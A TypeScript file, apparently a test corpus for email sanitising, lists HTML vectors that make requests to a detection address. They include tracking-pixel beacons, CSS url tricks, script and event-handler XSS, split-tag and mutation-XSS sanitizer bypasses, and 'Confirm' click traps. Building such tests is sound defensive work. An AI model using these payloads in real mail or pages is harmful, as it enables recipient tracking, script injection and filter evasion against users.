/** One way in which a mail can make a request, run a script or navigate; `to` is the address that detects it. */
export type MailVector = { readonly name: string; readonly html: (to: string) => string };

const vector = (name: string, html: (to: string) => string): MailVector => ({ name, html });
/** Runs where scripts run, and makes a detectable request. */
const script = (to: string): string => `new Image().src='${to}/script'`;

const images: readonly MailVector[] = [
  vector('img src', (to) => `<img src="${to}/x">`),
  vector('img src without quotes', (to) => `<img src=${to}/x>`),
  vector('img with a slash for a blank', (to) => `<img/src="${to}/x"/>`),
  vector('img in capitals', (to) => `<IMG SRC="${to}/x">`),
  vector('image, which is read as img', (to) => `<image src="${to}/x">`),
  vector('img srcset', (to) => `<img srcset="${to}/x 2x">`),
  vector('img sizes and srcset', (to) => `<img sizes="100px" srcset="${to}/x 100w">`),
  vector('picture source', (to) => `<picture><source srcset="${to}/x"><img src="data:,"></picture>`),
  vector('img lowsrc', (to) => `<img lowsrc="${to}/x" src="data:,">`),
  vector('input image', (to) => `<input type="image" src="${to}/x">`),
  vector('svg image', (to) => `<svg width="9" height="9"><image href="${to}/x" width="9" height="9"/></svg>`),
  vector(
    'svg image by xlink',
    (to) => `<svg width="9" height="9"><image xlink:href="${to}/x" width="9" height="9"/></svg>`,
  ),
  vector(
    'svg feImage',
    (to) =>
      `<svg><filter id="f"><feImage href="${to}/x"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
  ),
  vector('svg use', (to) => `<svg><use href="${to}/x#a"/></svg>`),
  vector(
    'a picture in an svg in a data address',
    (to) =>
      `<img src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${to}/x" width="9" height="9"/></svg>`)}">`,
  ),
  vector('body background', (to) => `<body background="${to}/x">x</body>`),
  vector('table background', (to) => `<table background="${to}/x"><tr><td>x</td></tr></table>`),
  vector('td background', (to) => `<table><tr><td background="${to}/x">x</td></tr></table>`),
];

const styles: readonly MailVector[] = [
  vector('style background', (to) => `<div style="background:url(${to}/x)">x</div>`),
  vector('style background in quotes', (to) => `<div style="background-image:url('${to}/x')">x</div>`),
  vector('style url by escapes', (to) => `<div style="background:u\\72l(${to}/x)">x</div>`),
  vector('style url by entities', (to) => `<div style="background:&#117;rl(${to}/x)">x</div>`),
  vector('style with a comment within', (to) => `<div style="background:/**/url(/**/${to}/x)">x</div>`),
  vector('style image-set', (to) => `<div style="background:image-set('${to}/x' 1x)">x</div>`),
  vector('style list-style', (to) => `<ul><li style="list-style-image:url(${to}/x)">x</li></ul>`),
  vector('style border-image', (to) => `<div style="border:9px solid;border-image:url(${to}/x) 9">x</div>`),
  vector('style content', (to) => `<div style="content:url(${to}/x)">x</div>`),
  vector('style cursor', (to) => `<div style="cursor:url(${to}/x),auto">x</div>`),
  vector('style mask', (to) => `<div style="mask-image:url(${to}/x)">x</div>`),
  vector('style shape-outside', (to) => `<div style="float:left;shape-outside:url(${to}/x)">x</div>`),
  vector('sheet import', (to) => `<style>@import url(${to}/x);</style>`),
  vector('sheet import by escapes', (to) => `<style>@\\69mport "${to}/x";</style>`),
  vector('sheet background', (to) => `<style>body{background:url(${to}/x)}</style>x`),
  vector('sheet content', (to) => `<style>p::after{content:url(${to}/x)}</style><p>x</p>`),
  vector(
    'sheet font',
    (to) => `<style>@font-face{font-family:f;src:url(${to}/x)}p{font-family:f}</style><p>x</p>`,
  ),
  vector(
    'sheet by attribute',
    (to) => `<style>a[data-x^="a"]{background:url(${to}/x)}</style><a data-x="ab">x</a>`,
  ),
  vector(
    'sheet in a variable',
    (to) => `<style>:root{--x:url(${to}/x)}p{background:var(--x)}</style><p>x</p>`,
  ),
  vector('sheet cut by a tag', (to) => `<style>p{background:ur<b>l(${to}/x)}</style><p>x</p>`),
  vector('link stylesheet', (to) => `<link rel="stylesheet" href="${to}/x">`),
  vector(
    'link stylesheet in the body of a table',
    (to) => `<table><link rel="stylesheet" href="${to}/x"><tr><td>x</td></tr></table>`,
  ),
];

const links: readonly MailVector[] = [
  vector('link preload', (to) => `<link rel="preload" as="image" href="${to}/x">`),
  vector('link prefetch', (to) => `<link rel="prefetch" href="${to}/x">`),
  vector('link modulepreload', (to) => `<link rel="modulepreload" href="${to}/x">`),
  vector('link icon', (to) => `<link rel="icon" href="${to}/x">`),
  vector('link manifest', (to) => `<link rel="manifest" href="${to}/x">`),
  vector('meta refresh', (to) => `<meta http-equiv="refresh" content="0;url=${to}/x">`),
  vector('base', (to) => `<base href="${to}/"><img src="x">`),
  vector('iframe', (to) => `<iframe src="${to}/x"></iframe>`),
  vector('iframe srcdoc', (to) => `<iframe srcdoc="<img src='${to}/x'>"></iframe>`),
  vector('frameset', (to) => `<frameset><frame src="${to}/x"></frameset>`),
  vector('object', (to) => `<object data="${to}/x"></object>`),
  vector('embed', (to) => `<embed src="${to}/x">`),
  vector('video', (to) => `<video src="${to}/x" autoplay></video>`),
  vector('video poster', (to) => `<video poster="${to}/x"></video>`),
  vector('audio', (to) => `<audio src="${to}/x" autoplay preload="auto"></audio>`),
  vector('source', (to) => `<video autoplay><source src="${to}/x"></video>`),
  vector('track', (to) => `<video src="data:," autoplay><track default src="${to}/x"></video>`),
  vector(
    'a template with a shadow',
    (to) => `<div><template shadowrootmode="open"><img src="${to}/x"></template></div>`,
  ),
  vector('noscript', (to) => `<noscript><img src="${to}/x"></noscript>`),
  vector(
    'what a comment hides from some',
    (to) => `<!--[if mso]><img src="${to}/x"><![endif]--><!--><img src="${to}/y">-->`,
  ),
  vector('a title that is not closed', (to) => `<title><a title="</title><img src=${to}/x>">`),
  vector(
    'math and its text',
    (to) => `<math><mtext><table><mglyph><style><img src="${to}/x"></style></mglyph></table></mtext></math>`,
  ),
];

const scripts: readonly MailVector[] = [
  vector('script', (to) => `<script>${script(to)}</script>`),
  vector('script file', (to) => `<script src="${to}/x"></script>`),
  vector('script module', (to) => `<script type="module">import '${to}/x'</script>`),
  vector('a script in a script', (to) => `<scr<script>ipt>${script(to)}</scr</script>ipt>`),
  vector('svg script', (to) => `<svg><script>${script(to)}</script></svg>`),
  vector('img onerror', (to) => `<img src="data:," onerror="${script(to)}">`),
  vector('svg onload', (to) => `<svg onload="${script(to)}"></svg>`),
  vector('body onload', (to) => `<body onload="${script(to)}">x</body>`),
  vector('input onfocus', (to) => `<input autofocus onfocus="${script(to)}">`),
  vector('details ontoggle', (to) => `<details open ontoggle="${script(to)}">x</details>`),
  vector('style onload', (to) => `<style onload="${script(to)}"></style>`),
  vector(
    'animation',
    (to) => `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="${script(to)}">x</p>`,
  ),
  vector('marquee', (to) => `<marquee onstart="${script(to)}">x</marquee>`),
  vector('svg animate', (to) => `<svg><animate onbegin="${script(to)}" attributeName="x" dur="1s"/></svg>`),
  vector('iframe of a script', (to) => `<iframe src="javascript:${script(to)}"></iframe>`),
  vector(
    'object of a page',
    (to) => `<object data="data:text/html,<script>${script(to)}</script>"></object>`,
  ),
  vector(
    'a form that sends itself',
    (to) => `<form id="f" action="${to}/x"></form><script>f.submit()</script>`,
  ),
  vector('a window of its own', (to) => `<script>open('${to}/x')</script>`),
  vector('the page around it', (to) => `<script>top.location='${to}/x'</script>`),
];

/** Elements that a reader may click. */
export const traps: readonly MailVector[] = [
  vector('a link over the page', (to) => `<a id="trap" target="_top" href="${to}/x">Confirm</a>`),
  vector('a link in a window', (to) => `<a id="trap" target="_blank" href="${to}/x">Confirm</a>`),
  vector('a link in the frame', (to) => `<a id="trap" href="${to}/x">Confirm</a>`),
  vector('a link that pings', (to) => `<a id="trap" href="#x" ping="${to}/x">Confirm</a>`),
  vector('a link of a script', (to) => `<a id="trap" href="javascript:${script(to)}">Confirm</a>`),
  vector('a link to be saved', (to) => `<a id="trap" download href="${to}/x">Confirm</a>`),
  vector('a form', (to) => `<form action="${to}/x"><button id="trap">Confirm</button></form>`),
  vector(
    'a form over the page',
    (to) => `<form action="${to}/x" target="_top" method="post"><button id="trap">Confirm</button></form>`,
  ),
  vector(
    'a button of a form elsewhere',
    (to) => `<form id="f"></form><button id="trap" form="f" formaction="${to}/x">Confirm</button>`,
  ),
  vector('a click', (to) => `<p id="trap" onclick="${script(to)}">Confirm</p>`),
];

/** The vectors that never navigate their page, and those that may. */
export const quiet: readonly MailVector[] = [...images, ...styles, ...links];
export const loud: readonly MailVector[] = scripts;
export const vectors: readonly MailVector[] = [...quiet, ...loud];
